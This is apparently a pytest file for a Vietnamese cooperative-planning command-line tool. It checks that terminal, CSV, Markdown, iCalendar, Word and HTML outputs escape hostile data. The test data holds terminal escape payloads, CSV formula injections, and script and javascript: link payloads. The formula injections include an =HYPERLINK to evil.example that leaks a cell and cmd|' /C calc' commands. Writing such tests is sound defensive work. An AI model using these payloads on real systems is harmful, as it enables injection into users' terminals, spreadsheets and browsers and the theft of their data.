"""Data cannot drive the terminal.

Escape sequences, carriage returns, bells, C1 controls, line separators and bidirectional
overrides in any text of the data (a task, a unit's name, a history note, a member's name, a
petition, a meeting's note, an initiative) are shown escaped in every output meant for a person
on a terminal (tables, details, reports, the plain digest, previews, diffs, messages); Markdown
and JSON keep the data exactly; `validate` warns about each such value where it stands.
"""

from __future__ import annotations

import functools
import io
import json
import os
import re
import shutil
import sys
from pathlib import Path

import pytest

from lmhtx_cli.typed import UNSAFE
from tests.conftest import REPO

# In YAML's double-quoted escapes: clear the screen, set the window title (OSC 0), write the
# clipboard (OSC 52), return to the line start, backspace, a C1 CSI, DEL, a line separator, a
# right-to-left override, NUL.
HOSTILE_YAML = r"\e[2J\e]0;pwned\a\e]52;c;ZWNobw==\a\r\b\x9b31m\x7f\u2028\u202e\0"
HOSTILE = "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;ZWNobw==\x07\r\b\x9b31m\x7f\u2028\u202e\x00"
SHOWN = r"\x1b[2J\x1b]0;pwned\x07\x1b]52;c;ZWNobw==\x07\r\x08\x9b31m\x7f\u2028\u202e\x00"

# (file, text to find, text to put before it) — every kind of text a terminal view shows.
PLANTED = [
    ("plans/2024/05.yaml", '"Triển khai thu hồi vốn', "task"),
    ("plans/2024/plan.yaml", '"Quỹ Hỗ trợ Phát triển HTX"', "unit"),
    ("plans/2024/plan.yaml", '"Đề án phát triển trồng rau an toàn', "initiative"),
    ("members/members.yaml", '"HTX Nông nghiệp Thắng Thủy"', "member"),
    ("members/areas.yaml", '"Địa bàn huyện Vĩnh Bảo"', "area"),
    ("members/petitions/2024.yaml", '"Đề nghị hướng dẫn thủ tục thuê đất', "petition"),
    ("members/meetings/2024.yaml", '"Sinh hoạt thành viên Quý I', "meeting"),
]


def acts(text: str) -> list[str]:
    """The characters of `text` that would act on a terminal (its own line breaks aside)."""
    return [m.group() for m in UNSAFE.finditer(text) if m.group() != "\n"]


@pytest.fixture
def hostile(tmp_path) -> Path:
    root = tmp_path / "office"
    shutil.copytree(REPO / "plans", root / "plans")
    shutil.copytree(REPO / "members", root / "members")
    for name, anchor, what in PLANTED:
        path = root / name
        text = path.read_text(encoding="utf-8")
        assert anchor in text, (name, anchor)
        path.write_text(text.replace(anchor, f'"{what}:{HOSTILE_YAML}' + anchor[1:], 1), encoding="utf-8")
    month = root / "plans/2024/05.yaml"
    text = month.read_text(encoding="utf-8")
    task = re.search(r"( +)- id: 05-quy-2\n(?:\1  .*\n)*?\1  status: planned\n", text)
    assert task is not None
    indent = task.group(1)
    history = f'{indent}  history:\n{indent}    - on: 2024-05-20\n{indent}      status: planned\n{indent}      by: "by:{HOSTILE_YAML}"\n{indent}      note: "note:{HOSTILE_YAML}"\n{indent}      ref: "ref:{HOSTILE_YAML}"\n'
    month.write_text(text[: task.end()] + history + text[task.end() :], encoding="utf-8")
    return root


TERMINAL_VIEWS = [
    ("plan", "show", "--year", "2024", "--month", "5"),
    ("plan", "show", "--year", "2024", "--month", "5", "--unit", "quy"),
    ("plan", "show", "--year", "2024", "05-quy-1"),
    ("plan", "show", "--year", "2024", "05-quy-2"),
    ("plan", "mark", "--year", "2024", "05-quy-1", "done", "--dry-run"),
    ("plan", "threads", "--year", "2024"),
    ("plan", "thread", "--year", "2024", "rau-an-toan"),
    ("units", "--year", "2024"),
    ("report", "month", "5", "--year", "2024", "--as-of", "31/05/2024"),
    ("report", "quarter", "IV", "--year", "2024", "--as-of", "31/12/2024"),
    ("report", "year", "--year", "2024", "--as-of", "31/12/2024"),
    ("digest", "--month", "2024-05", "--format", "text"),
    ("digest", "--month", "2024-10", "--format", "text"),
    ("members", "list"),
    ("members", "show", "thang-thuy"),
    ("meetings", "list", "--year", "2024"),
    ("meetings", "show", "2024-q1"),
    ("petitions", "list"),
    ("validate",),
]


@pytest.mark.parametrize("args", TERMINAL_VIEWS, ids=[" ".join(a) for a in TERMINAL_VIEWS])
def test_terminal_views_show_control_characters_escaped(lmhtx, hostile, args):
    run = lmhtx(*args, root=hostile)
    assert run.code in (0, 1), run.err
    assert acts(run.out) == [] and acts(run.err) == []
    if args[0] != "validate":
        assert "\\x1b[2J\\x1b]0;pwned" in re.sub(r"\s+", "", run.out), run.out  # shown as escapes, as git and ls show odd file names


def test_every_planted_text_is_found_and_shown_escaped(lmhtx, hostile):
    outputs = "".join(
        lmhtx(*args, root=hostile).out
        for args in (
            ("plan", "show", "--year", "2024", "--month", "5"),
            ("plan", "show", "--year", "2024", "05-quy-2"),
            ("plan", "thread", "--year", "2024", "rau-an-toan"),
            ("members", "show", "thang-thuy"),
            ("meetings", "show", "2024-q1"),
            ("meetings", "list", "--year", "2024"),
            ("petitions", "list"),
        )
    )
    joined = re.sub(r"\s+", "", outputs)  # a long run without spaces may be wrapped anywhere
    for what in ("task", "unit", "initiative", "member", "area", "petition", "meeting", "by", "note", "ref"):
        assert f"{what}:{SHOWN}" in joined, what


def test_json_and_markdown_keep_the_data_exactly(lmhtx, hostile):
    task = json.loads(lmhtx("plan", "show", "--year", "2024", "05-quy-1", "--format", "json", root=hostile).out)
    assert task["text"].startswith("task:" + HOSTILE) and task["unit_name"].startswith("unit:" + HOSTILE)
    entry = json.loads(lmhtx("plan", "show", "--year", "2024", "05-quy-2", "--format", "json", root=hostile).out)["history"][-1]
    assert (entry["by"], entry["note"], entry["ref"]) == ("by:" + HOSTILE, "note:" + HOSTILE, "ref:" + HOSTILE)
    member = json.loads(lmhtx("members", "show", "thang-thuy", "--format", "json", root=hostile).out)
    assert member["name"] == "member:" + HOSTILE + "HTX Nông nghiệp Thắng Thủy"
    petitions = json.loads(lmhtx("petitions", "list", "--format", "json", root=hostile).out)
    assert petitions[0]["text"].startswith("petition:" + HOSTILE)
    markdown = lmhtx("plan", "show", "--year", "2024", "--month", "5", "--unit", "quy", "--format", "md", root=hostile).out
    assert "\x1b" in markdown and "\u202e" in markdown  # a file for other programs: the data as it is
    digest = lmhtx("digest", "--month", "2024-05", root=hostile).out
    assert "\x1b" in digest


def test_validate_warns_at_each_value(lmhtx, hostile, english):
    run = lmhtx("validate", "--format", "json", root=hostile)
    found = [p for p in json.loads(run.out) if p["code"] == "control-char"]
    files = sorted({p["file"] for p in found})
    assert files == ["members/areas.yaml", "members/meetings/2024.yaml", "members/members.yaml", "members/petitions/2024.yaml", "plans/2024/05.yaml", "plans/2024/plan.yaml"]
    assert all(p["level"] == "warning" for p in found) and len(found) == len(PLANTED) + 3  # by, note and ref of the history entry
    for problem in found:
        line = (hostile / problem["file"]).read_text(encoding="utf-8").splitlines()[problem["line"] - 1]
        assert HOSTILE_YAML in line[problem["column"] - 1 :], (problem, line)  # at the value itself
        assert problem["message"].startswith("character ") and "a control character (U+001B)" in problem["message"]


def test_validate_tells_each_kind_apart(lmhtx, small_root, english):
    month = small_root / "plans/2030/05.yaml"
    texts = {"escape": r"\e", "line separator": r"\u2028", "bidirectional control": r"\u2066", "noncharacter": r"\uffff", "control character (U+0085)": r"\x85"}
    body = month.read_text(encoding="utf-8")
    tasks = "".join(f'    - id: 05-quy-{n}\n      text: "Việc {n} {escape}."\n      status: planned\n' for n, escape in enumerate(texts.values(), start=2))
    month.write_text(body + tasks, encoding="utf-8")
    problems = [p for p in json.loads(lmhtx("validate", "--format", "json", root=small_root).out) if p["code"] == "control-char"]
    lines = month.read_text(encoding="utf-8").splitlines()
    assert [p["line"] for p in problems] == [lines.index(f"    - id: 05-quy-{n}") + 2 for n in range(2, 2 + len(texts))]  # at each text
    messages = " ".join(p["message"] for p in problems)
    for kind in ("a control character (U+001B)", "a line separator (U+2028)", "a bidirectional control (U+2066)", "a noncharacter (U+FFFF)", "a line separator (U+0085)"):
        assert kind in messages


def test_a_paragraph_and_a_tab_are_not_warned_about(lmhtx, small_root):
    plan = small_root / "plans/2030/plan.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace("Dữ liệu mẫu dùng cho kiểm thử.", "Đoạn một.\n\n  Đoạn hai,\tcó tab."), encoding="utf-8")
    run = lmhtx("validate", root=small_root)
    assert run.code == 0 and "control-char" not in run.out


def test_a_diff_of_hostile_text_is_shown_escaped(lmhtx, hostile):
    from tests.gitutil import init_repo

    init_repo(hostile)
    month = hostile / "plans/2024/06.yaml"
    text = month.read_text(encoding="utf-8")
    first = re.search(r'text: "(.*)"', text)
    month.write_text(text.replace(first.group(0), f'text: "{HOSTILE_YAML}{first.group(1)}"', 1), encoding="utf-8")
    run = lmhtx("plan", "diff", root=hostile)
    assert run.code == 0 and SHOWN in run.out and acts(run.out) == []
    markdown = lmhtx("plan", "diff", "--format", "md", root=hostile)
    assert "\x1b" in markdown.out


def test_messages_on_stderr_are_escaped_too(lmhtx, hostile):
    run = lmhtx("plan", "show", "--year", "2024", "--month", "5", root=hostile)
    assert "control-char" in run.err and acts(run.err) == []  # the warning printed beside the result
    typed = lmhtx("plan", "show", "--year", "\x1b[2J2024", root=hostile)  # click's own message quotes the value
    assert typed.code == 2 and acts(typed.err) == [] and "\\x1b[2J" in typed.err


def test_the_tools_own_styling_stays_while_the_datas_is_escaped():
    from lmhtx_cli.plan.programme import Programme, TaskRow, Unit
    from lmhtx_cli.render.text import tasks_table

    unit = Unit("quy", "Quỹ " + HOSTILE, None, [])
    task = TaskRow("05-quy-1", 2024, 5, "quy", "Việc " + HOSTILE, "planned", None, None, [], "plans/2024/05.yaml", 3)
    out = tasks_table([task], Programme(2024, None, None, [unit], [task], []), "Tháng 5 " + HOSTILE, 80, "vi", styled=True)
    assert "\x1b[1m" in out  # bold headings, the tool's own
    assert acts(re.sub(r"\x1b\[[01]m", "", out)) == [] and re.sub(r"\s+", "", out).count(SHOWN) == 3


@pytest.mark.skipif(sys.platform == "win32", reason="a pseudo-terminal")
@pytest.mark.parametrize("args", [("plan", "show", "--year", "2024", "--month", "5"), ("report", "month", "5", "--year", "2024", "--as-of", "31/05/2024")], ids=["plan show", "report"])
def test_on_a_real_terminal_only_the_tools_colours_reach_it(hostile, args):
    import pty

    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "LMHTX_ROOT")} | {"TERM": "xterm-256color", "COLUMNS": "100", "LMHTX_NO_CACHE": "1"}
    out = b""
    pid, fd = pty.fork()
    if pid == 0:  # the child: the command, on the pseudo-terminal
        os.execve(sys.executable, [sys.executable, "-m", "lmhtx_cli", "--root", str(hostile), *args], env)
    try:
        while True:
            try:
                chunk = os.read(fd, 65536)
            except OSError:
                break
            if not chunk:
                break
            out += chunk
    finally:
        os.waitpid(pid, 0)
    text = out.decode("utf-8").replace("\r\n", "\n")
    assert SHOWN in text
    assert "\x1b[" in text  # the tool's own colours or bold, since this is a terminal
    assert acts(re.sub(r"\x1b\[[0-9;]*m", "", text)) == []  # nothing else: no clear screen, title, clipboard, CR or override


def test_a_new_years_draft_shows_recurring_hostile_text_escaped(lmhtx, hostile):
    for month in (hostile / "plans/2024").glob("[01]*.yaml"):
        text = month.read_text(encoding="utf-8")
        month.write_text(text.replace('"Đôn đốc thu tiền lãi, tiền gốc', f'"recurring:{HOSTILE_YAML}Đôn đốc thu tiền lãi, tiền gốc'), encoding="utf-8")
    run = lmhtx("plan", "new-year", "2025", "--from", "2024", "--dry-run", root=hostile)
    assert run.code == 0, run.err
    assert f"recurring:{SHOWN}" in re.sub(r"\s+", "", run.out) and acts(run.out) == []


# -- every output escapes data for its own grammar (render/escape.py) ---------------------------
# Payloads planted in a copy of the real data, through the real CLI, asserting the files written.
# (YAML double-quoted text, the value it reads as.)
FORMULAS = {
    "05-vp-1": (r"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")", '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'),
    "05-vp-2": ("-2+3", "-2+3"),
    "05-khth-1": (r"@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "05-khth-2": (r"\t=1+1", "\t=1+1"),
    "05-khth-3": (r"  \"=2+5\"", '  "=2+5"'),
    "05-ttht-1": (r"+7 chuyển khoản", "+7 chuyển khoản"),
}
HTML = r"<img src=x onerror=alert(1)> <script>alert(2)</script> <b>đậm</b> [bấm](javascript:alert(3)) <javascript:alert(4)> ![ảnh](javascript:alert(5)) &lt;i&gt; *nghiêng* `mã`"
BLOCKS = r"Mở đầu\n# PWN tiêu đề\n| PWN | b |\n|---|---|\n- PWN mục\n> PWN trích\n```\nPWN khối mã\n    PWN thụt lề\n1. PWN số\n+ PWN cộng\n===\n---"
MEETING_NOTE = (
    r"Họp; tại phòng 2, tầng 3 \\ nhà A\rdòng sau CR\r\ndòng sau CRLF\nHội nghị sơ kết công tác sáu tháng đầu năm của các hợp tác xã nông nghiệp trên địa bàn huyện Vĩnh Bảo, thành phố Hải Phòng, có đại diện Ủy ban nhân dân huyện tham dự."
)
CONTROLS = r"Việc có ký tự lạ \x01 ở giữa,\vxuống dòng của Word và \uFFFE cuối."


def _plant(path: Path, anchor: str, value: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert anchor in text, (path, anchor)
    path.write_text(text.replace(anchor, value, 1), encoding="utf-8")


def _task_text(root: Path, task_id: str, value: str) -> None:
    month = root / f"plans/2024/{task_id[:2]}.yaml"
    text = month.read_text(encoding="utf-8")
    found = re.search(rf"- id: {re.escape(task_id)}\n( +)text: .*\n", text)
    assert found, task_id
    month.write_text(text[: found.start()] + f'- id: {task_id}\n{found.group(1)}text: "{value}"\n' + text[found.end() :], encoding="utf-8")


@pytest.fixture
def payloads(office) -> Path:
    for task_id, (yaml_text, _value) in FORMULAS.items():
        _task_text(office, task_id, yaml_text)
    _task_text(office, "05-khth-4", HTML)
    _task_text(office, "05-kttv-1", BLOCKS)
    _task_text(office, "05-quy-3", CONTROLS)
    month = office / "plans/2024/05.yaml"
    text = month.read_text(encoding="utf-8")
    task = re.search(r"( +)- id: 05-kttv-2\n(?:\1  .*\n)*?\1  status: planned\n", text)
    indent = task.group(1)
    history = f'{indent}  history:\n{indent}    - on: 2024-05-20\n{indent}      status: in_progress\n{indent}      note: "{BLOCKS}"\n{indent}      ref: "{HTML}"\n'
    month.write_text(text[: task.end()].replace("status: planned\n", "status: in_progress\n") + history + text[task.end() :], encoding="utf-8")
    _plant(office / "plans/2024/plan.yaml", '"Quỹ Hỗ trợ Phát triển HTX"', '"# Quỹ | <b>Hỗ trợ</b> [x](javascript:alert(6))"')
    _plant(office / "members/areas.yaml", '"Địa bàn huyện Vĩnh Bảo"', '"<img src=x onerror=alert(7)> | Vĩnh Bảo"')
    _plant(office / "members/members.yaml", '"HTX Nông nghiệp Thắng Thủy"', "\"=cmd|' /C calc'!A0 <b>HTX</b> Thắng Thủy\"")
    _plant(office / "members/meetings/2024.yaml", '"Sinh hoạt thành viên Quý I năm 2024 (programme, month 2)."', f'"{MEETING_NOTE}"')
    _plant(office / "members/petitions/2024.yaml", '"Đề nghị hướng dẫn thủ tục thuê đất xây dựng nhà sơ chế rau."', f'"{BLOCKS} {HTML}"')
    return office


def _yaml_value(yaml_text: str) -> str:
    import yaml

    return yaml.safe_load(f'"{yaml_text}"')


# CSV ------------------------------------------------------------------------------------------
_EVALUATED = re.compile("^[\\s\"']*[=+\\-@\t\r\n]")

CSV_COMMANDS = [
    ("plan", "show", "--year", "2024", "--month", "5"),
    ("members", "list"),
    ("meetings", "list", "--year", "2024"),
    ("petitions", "list"),
    ("fees", "--year", "2024"),
]


@pytest.mark.parametrize("args", CSV_COMMANDS, ids=[" ".join(a[:2]) for a in CSV_COMMANDS])
def test_no_csv_cell_is_a_formula_and_a_csv_file_opens_in_excel_as_utf8(lmhtx, payloads, tmp_path, args):
    import csv

    target = tmp_path / "out.csv"
    run = lmhtx(*args, "--format", "csv", "--output", str(target), root=payloads)
    assert run.code == 0, run.err
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark: Excel reads Vietnamese right
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert len(rows) > 1 and not [c for c in cells if _EVALUATED.match(c) and not c.startswith("'")]  # a spreadsheet evaluates none
    screen = lmhtx(*args, "--format", "csv", root=payloads).out
    assert not screen.startswith("\ufeff") and list(csv.reader(io.StringIO(screen))) == rows  # no mark on stdout: pipes read the first cell as it is


def test_csv_cells_keep_the_text_after_a_quote(lmhtx, payloads):
    import csv

    rows = list(csv.DictReader(io.StringIO(lmhtx("plan", "show", "--year", "2024", "--month", "5", "--format", "csv", root=payloads).out)))
    texts = {row["id"]: row["text"] for row in rows}
    for task_id, (_yaml, value) in FORMULAS.items():
        assert texts[task_id] == "'" + value, task_id
    assert texts["05-ttht-2"][0] not in "'=+-@"  # ordinary text untouched
    assert {row["year"] for row in rows} == {"2024"}
    members = list(csv.reader(io.StringIO(lmhtx("members", "list", "--format", "csv", root=payloads).out)))
    assert "'=cmd|' /C calc'!A0 <b>HTX</b> Thắng Thủy" in [c for row in members for c in row]


# Markdown -------------------------------------------------------------------------------------
@functools.cache
def _markdown_reader():
    MarkdownIt = pytest.importorskip("markdown_it").MarkdownIt  # noqa: N806 (a class)

    return MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _markdown_tokens(text: str) -> list:
    """CommonMark with GitHub's and GitLab's tables and strike-through (markdown-it-py, which Rich
    brings)."""
    return _markdown_reader().parse(text)


def _flat(tokens: list) -> list:
    for token in tokens:
        yield token
        yield from _flat(token.children or [])


def _plain(tokens: list) -> str:
    return " ".join(t.content for t in _flat(tokens) if t.type in ("text", "code_inline"))


def _assert_no_structure_from_data(text: str) -> None:
    """No raw HTML, image, quote, code block or strike-through; links only to http(s); no heading,
    table cell, list item or paragraph that begins with a line of the data ("PWN…"); no rule or
    setext heading but the template's own closing rule. The tool's own provenance comment (the last
    line, `<!-- lmhtx-provenance {…} -->`, which `lmhtx verify` reads) is the one HTML allowed."""
    import re

    own = re.findall(r"^<!-- lmhtx-provenance \{[^<>]*\} -->$", text, re.M)
    assert len(own) <= 1
    tokens = _markdown_tokens(text.replace(own[0], "") if own else text)
    kinds = {t.type for t in _flat(tokens)}
    assert not kinds & {"html_block", "html_inline", "image", "blockquote_open", "fence", "code_block", "s_open"}, kinds
    for link in (t for t in _flat(tokens) if t.type == "link_open"):
        assert link.attrs["href"].startswith(("http://", "https://")), link.attrs
    for i, token in enumerate(tokens[:-1]):
        if tokens[i + 1].type == "inline":
            assert not tokens[i + 1].content.startswith("PWN"), (token.type, tokens[i + 1].content)
        assert not (token.type == "heading_open" and token.markup in ("=", "-")), tokens[i + 1].content
    assert len([t for t in tokens if t.type == "hr"]) <= 1


MARKDOWN_COMMANDS = [
    ("report", "month", "5", "--year", "2024", "--as-of", "31/05/2024", "--format", "md"),
    ("report", "quarter", "II", "--year", "2024", "--as-of", "30/06/2024", "--format", "md"),
    ("digest", "--month", "2024-05"),
    ("digest", "--month", "2024-10"),
    ("plan", "show", "--year", "2024", "--month", "5", "--format", "md"),
    ("members", "list", "--format", "md"),
    ("meetings", "list", "--year", "2024", "--format", "md"),
    ("petitions", "list", "--format", "md"),
    ("fees", "--year", "2024", "--format", "md"),
]


@pytest.mark.parametrize("args", MARKDOWN_COMMANDS, ids=[" ".join(a[:3]) for a in MARKDOWN_COMMANDS])
def test_markdown_takes_no_html_link_or_structure_from_data(lmhtx, payloads, args):
    run = lmhtx(*args, root=payloads)
    assert run.code == 0, run.err
    _assert_no_structure_from_data(run.out)


def test_markdown_shows_the_data_as_written(lmhtx, payloads):
    report = lmhtx("report", "month", "5", "--year", "2024", "--as-of", "31/05/2024", "--format", "md", root=payloads).out
    shown = re.sub(r"\s+", " ", _plain(_markdown_tokens(report)))
    for value in (_yaml_value(HTML), _yaml_value(BLOCKS), "# Quỹ | <b>Hỗ trợ</b> [x](javascript:alert(6))"):
        assert re.sub(r"\s+", " ", value).strip() in shown, value
    listing = lmhtx("plan", "show", "--year", "2024", "--month", "5", "--format", "md", root=payloads).out
    assert "### \\# Quỹ \\| \\<b>Hỗ trợ\\</b> \\[x](javascript:alert(6))" in listing  # the unit's name, a heading of the tool's own
    assert re.sub(r"\s+", " ", _yaml_value(HTML)) in re.sub(r"\s+", " ", _plain(_markdown_tokens(listing)))


def test_a_template_that_forgets_the_filter_still_escapes(lmhtx, payloads):
    (payloads / "templates").mkdir()
    (payloads / "templates/digest.md.j2").write_text("# {{ d.period }}\n{% for u in d.due %}{% for task in u.tasks %}\n{{ task.text }}\n{{ task.id | code }} {{ task.note }}\n{% endfor %}{% endfor %}\n", encoding="utf-8")
    run = lmhtx("digest", "--month", "2024-05", root=payloads)
    assert run.code == 0, run.err
    _assert_no_structure_from_data(run.out)
    assert "`05-kttv-2`" in run.out and "\\<script>" in run.out


def test_plan_diff_for_a_merge_request_takes_nothing_from_data(lmhtx, office):
    from tests.gitutil import init_repo

    init_repo(office)
    for task_id, value in (("05-vp-1", HTML), ("05-vp-2", BLOCKS), ("05-khth-1", r"\n| PWN a | b |\n|---|---|"), ("05-khth-2", "[x](javascript:alert(1)) <https://ok.example> <javascript:alert(2)>")):
        _task_text(office, task_id, value)
    run = lmhtx("plan", "diff", "--format", "md", root=office)
    assert run.code == 0, run.err
    _assert_no_structure_from_data(run.out)
    tokens = _markdown_tokens(run.out)
    rows = [t for t in tokens if t.type == "tr_open"]
    assert len(rows) == 2 + 4  # the header row of each of the two units' tables and the four changes
    assert "<script>alert(2)</script>" in _plain(tokens)


# iCalendar ------------------------------------------------------------------------------------
def _unfolded(raw: bytes) -> list[str]:
    assert raw.endswith(b"\r\n")
    lines = raw.split(b"\r\n")[:-1]
    for line in lines:
        assert b"\r" not in line and b"\n" not in line  # no bare CR or LF anywhere
        assert len(line) <= 75, line  # folded at 75 octets
        line.decode("utf-8")  # never inside a character
    return raw.decode("utf-8").replace("\r\n ", "").split("\r\n")[:-1]


def _ics_value(text: str) -> str:
    return re.sub(r"\\([\\;,nN])", lambda m: "\n" if m.group(1) in "nN" else m.group(1), text)


def test_a_calendar_escapes_and_folds_every_text(lmhtx, payloads, tmp_path):
    target = tmp_path / "hop.ics"
    run = lmhtx("meetings", "ics", "--year", "2024", "--output", str(target), root=payloads)
    assert run.code == 0, run.err
    lines = _unfolded(target.read_bytes())
    descriptions = [_ics_value(line.split(":", 1)[1]) for line in lines if line.startswith("DESCRIPTION:")]
    expected = _yaml_value(MEETING_NOTE).replace("\r\n", "\n").replace("\r", "\n")
    assert [d for d in descriptions if d.endswith(expected)], descriptions
    for line in lines:
        value = line.split(":", 1)[1] if ":" in line else ""
        assert not re.search(r"(?<!\\)(?:\\\\)*[;,]", value.replace("\\\\", "")) or line.startswith(("BEGIN", "END")), line  # every ; and , of a text escaped
    assert len(target.read_bytes().split(b"\r\n ")) > 2  # the long note was folded


# Word -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("args", [("report", "month", "5", "--year", "2024", "--as-of", "31/05/2024"), ("digest", "--month", "2024-05")], ids=["report", "digest"])
def test_word_shows_what_xml_cannot_hold_instead_of_crashing(lmhtx, payloads, tmp_path, args):
    import docx

    target = tmp_path / "bao-cao.docx"
    run = lmhtx(*args, "--format", "docx", "--output", str(target), root=payloads)
    assert run.code == 0, run.err
    document = docx.Document(str(target))
    texts = [p.text for p in document.paragraphs] + [p.text for table in document.tables for row in table.rows for cell in row.cells for p in cell.paragraphs]
    found = [t for t in texts if "Việc có ký tự lạ" in t]
    assert found, texts
    assert "\\x01 ở giữa," in found[0] and "\\ufffe cuối" in found[0]  # shown as escapes
    assert "giữa,\nxuống dòng" in found[0]  # Word's own line break (a vertical tab) as a line break
    assert "<b>đậm</b>" in "\n".join(texts)  # markup of other languages is text in Word


# Each escaper over any text -------------------------------------------------------------------
_PIECES = list("\\`*_[]<>|~&#!()-+=.:;'\"@\n\r\t\x0b\x0c\x01 1aé") + ["&amp;", "&#60;", "<b>", "](javascript:x)", "http://a.b", "  \n", "1. ", "2) ", "- ", "> ", "```", "    ", "\u2028", "\ufffe", "Quý II/2024"]


def _texts():
    from hypothesis import strategies as st

    return st.lists(st.one_of(st.sampled_from(_PIECES), st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=3)), max_size=24).map("".join)


def _rendered_inline(tokens: list) -> str:
    """The text a reader sees, with any other inline node named, e.g. <link_open>."""
    return "".join(c.content if c.type in ("text", "code_inline") else f"<{c.type}>" for t in tokens for c in (t.children or []))


def test_markdown_text_is_one_paragraph_of_the_text_itself():
    from hypothesis import given, settings

    from lmhtx_cli.render.escape import md_text

    @settings(max_examples=300, deadline=None)
    @given(_texts())
    def check(text):
        expected = re.sub("[ \t]*(?:\r\n|[\r\n\u2028\u2029\x85\x0b\x0c])[ \t\r\n\u2028\u2029\x85\x0b\x0c]*", " ", text).strip().replace("\x00", "\ufffd")
        if not expected.strip():
            return
        escaped = md_text(text)
        tokens = _markdown_tokens(escaped + "\n")
        assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"], (text, escaped)
        assert _rendered_inline(tokens).rstrip() == expected.rstrip(), (text, escaped)
        row = _markdown_tokens("| a | b |\n|---|---|\n| " + escaped + " | z |\n")
        assert len([t for t in row if t.type == "td_open"]) == 2, (text, escaped)  # one cell, whatever it holds

    check()


def test_a_code_span_holds_any_id():
    from hypothesis import given, settings

    from lmhtx_cli.render.escape import md_code

    @settings(max_examples=200, deadline=None)
    @given(_texts())
    def check(text):
        if not text.strip(" \t\r\n\u2028\u2029\x85\x0b\x0c"):
            return
        tokens = _markdown_tokens("x " + md_code(text) + "\n")
        assert [c.type for c in tokens[1].children][1:] == ["code_inline"], (text, md_code(text))

    check()


def test_no_csv_cell_starts_a_formula():
    from hypothesis import given, settings

    from lmhtx_cli.render.escape import csv_cell

    @settings(max_examples=300, deadline=None)
    @given(_texts())
    def check(text):
        cell = csv_cell(text)
        assert cell == text or cell == "'" + text
        assert cell.startswith("'") or not _EVALUATED.match(cell)

    check()
    assert [csv_cell(v) for v in ("=1+1", "-2+3", "@SUM(A1)", "\t=1", "+7", ' "=1', "Việc 1", 2024, None)] == ["'=1+1", "'-2+3", "'@SUM(A1)", "'\t=1", "'+7", "' \"=1", "Việc 1", 2024, ""]


def test_an_ics_value_unfolds_and_reads_back_as_the_text():
    from hypothesis import given, settings

    from lmhtx_cli.render.escape import ics_lines, ics_text

    @settings(max_examples=300, deadline=None)
    @given(_texts())
    def check(text):
        raw = ics_lines(["DESCRIPTION:" + ics_text(text)]).encode("utf-8")
        (line,) = _unfolded(raw)
        expected = re.sub("\r\n|[\r\n\u2028\u2029\x85]", "\n", text)
        expected = re.sub("[\x00-\x08\x0b-\x1f\x7f\ufffe\uffff]", "", expected)
        assert _ics_value(line.removeprefix("DESCRIPTION:")) == expected, (text, raw)

    check()


def test_any_text_enters_a_word_document():
    import docx
    from hypothesis import given, settings

    from lmhtx_cli.render.escape import word_text

    paragraph = docx.Document().add_paragraph()

    @settings(max_examples=200, deadline=None)
    @given(_texts())
    def check(text):
        run = paragraph.add_run(word_text(text + "\ud800"))  # a lone surrogate too
        assert "\\ud800" in run.text

    check()


def test_each_grammar_is_escaped_in_one_place():
    """CSV is written, Markdown and iCalendar text escaped, and text put into Word, only through
    render/escape.py: a renderer of its own would escape differently (issue 24: four Markdown
    escapers, some escaping only `|`)."""
    package = REPO / "lmhtx_cli"
    found = []
    for path in sorted(package.rglob("*.py")):
        if path.name == "escape.py" and path.parent.name == "render":
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if re.search(r"csv\.writer|\.replace\(\"(?:[|;,`*#<]|\\\\)\", \"\\\\|html\.escape|markupsafe|add_run\([^)]", line) and "word_text(" not in line:
                found.append(f"{path.relative_to(package)}:{number}: {line.strip()}")
    assert found == []


def test_the_site_shows_data_as_text(lmhtx, payloads, tmp_path):
    from html.parser import HTMLParser

    run = lmhtx("site", "--output", str(tmp_path / "_site"), "--year", "2024", "--as-of", "31/05/2024", root=payloads)
    assert run.code == 0, run.err

    class Tags(HTMLParser):
        def __init__(self) -> None:
            super().__init__()
            self.tags, self.text = set(), []

        def handle_starttag(self, tag, attrs) -> None:
            self.tags.add(tag)
            if tag == "img":  # the tool's own charts only
                assert dict(attrs)["src"].endswith(".svg") and "onerror" not in dict(attrs), attrs

        def handle_data(self, data) -> None:
            self.text.append(data)

    pages = sorted((tmp_path / "_site").glob("*.html"))
    seen = ""
    for page in pages:
        parser = Tags()
        parser.feed(page.read_text(encoding="utf-8"))
        assert not parser.tags & {"script", "b"}, (page.name, parser.tags)
        seen += "".join(parser.text)
    assert "# Quỹ | <b>Hỗ trợ</b> [x](javascript:alert(6))" in seen


def test_a_new_offices_readme_shows_its_name_as_written(lmhtx, tmp_path):
    name = "Liên minh HTX <b>tỉnh</b> *Ninh Bình* [x](javascript:alert(1))"
    run = lmhtx("init", str(tmp_path / "office"), "--office", name, "--year", "2025", root=None)
    assert run.code == 0, run.err
    readme = (tmp_path / "office/README.md").read_text(encoding="utf-8")
    tokens = _markdown_tokens(readme)
    assert not {t.type for t in _flat(tokens)} & {"html_inline", "html_block", "em_open", "link_open"}
    assert tokens[0].type == "heading_open" and name in _rendered_inline(tokens[:3])  # the heading, shown as typed
